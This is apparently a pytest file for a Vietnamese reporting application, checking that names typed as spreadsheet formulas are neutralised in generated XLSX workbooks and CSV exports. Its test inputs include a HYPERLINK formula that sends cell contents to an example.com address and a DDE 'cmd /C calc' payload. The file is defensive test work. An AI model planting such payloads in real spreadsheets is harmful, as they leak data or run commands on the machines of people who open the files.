"""Formula injection (issue 14, item 6): a name typed as `=HYPERLINK(…)` reaches every workbook and
CSV the product writes as text, while the workbooks' own formulas stay live."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import load_workbook

from gdnn.common.cells import cell_safe, formula_like
from tests.reports.conftest import ON, analytics_dir, lang_son, seeded  # noqa: F401

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://example.com/x?d="&A1,"Bấm vào đây")'


def formulas(xlsx: bytes) -> dict[str, list[str]]:
    """Every <f> element of every sheet, read from the package itself (not through openpyxl)."""
    import re

    out = {}
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                out[name] = re.findall(r"<f>(.*?)</f>", z.read(name).decode())
    return out


@pytest.mark.parametrize(("text", "dangerous"), [
    (EVIL, True), ("+1+cmd|' /C calc'!A0", True), ("-2+3", True), ("@SUM(A1)", True), ("\tx", True),
    ("\r=1", True), ("-5", False), ("+3.25", False), ("1.234,5", False), ("Trường Cao đẳng", False), ("", False),
])
def test_formula_like_texts_are_recognised(text, dangerous):
    assert formula_like(text) is dangerous
    assert cell_safe(text) == ("'" + text if dangerous else text)


def test_a_report_workbook_keeps_names_as_text_and_its_own_formulas_live(seeded, analytics_dir):  # noqa: F811
    from gdnn.analytics.services import analytics_rebuild
    from gdnn.orgunits.models import OrgUnit
    from gdnn.reports.generator import report_data
    from gdnn.reports.xlsx_writer import write_xlsx

    plan, province, communes = seeded
    OrgUnit.objects.filter(pk=communes[0].pk).update(name=EVIL)
    analytics_rebuild()
    data = report_data(plan=plan, org_unit=province, period="2025", as_of=ON)
    assert EVIL in {v.unit_name for v in data.raw_values}
    xlsx = write_xlsx(data)
    found = formulas(xlsx)
    assert not any("HYPERLINK" in f for fs in found.values() for f in fs)
    live = [f for fs in found.values() for f in fs]
    assert len(live) == 2 * len(data.targets) and all(f.startswith(("IF(", "IF(OR")) for f in live)
    raw = load_workbook(io.BytesIO(xlsx))["Số liệu"]
    assert EVIL in [c.value for c in raw["B"]]


def test_a_data_template_keeps_names_as_text_and_its_totals_live(world):
    from gdnn.collection.excel import template_build
    from gdnn.collection.selectors import form_structure

    form = form_structure(data_set=world.inst, period=world.half)
    xlsx = template_build(form=form, data_set_name=EVIL, org_unit_code=world.school.code, org_unit_name=EVIL,
                          period=world.half, values={})
    found = [f for fs in formulas(xlsx).values() for f in fs]
    assert found and all(f.startswith("SUM(") for f in found)
    assert load_workbook(io.BytesIO(xlsx))["Báo cáo"]["A1"].value == EVIL


def test_a_csv_export_neutralises_texts_but_not_numbers():
    from gdnn.collection.dhis2_csv import csv_write

    text = csv_write([{"dataelement": "MANAGERS", "period": "2025", "orgunit": "=1+1", "categoryoptioncombo": "",
                       "value": "-5", "storedby": "@evil", "lastupdated": "2025-01-01"}])
    assert text.splitlines()[1] == "MANAGERS,2025,'=1+1,,-5,'@evil,2025-01-01"
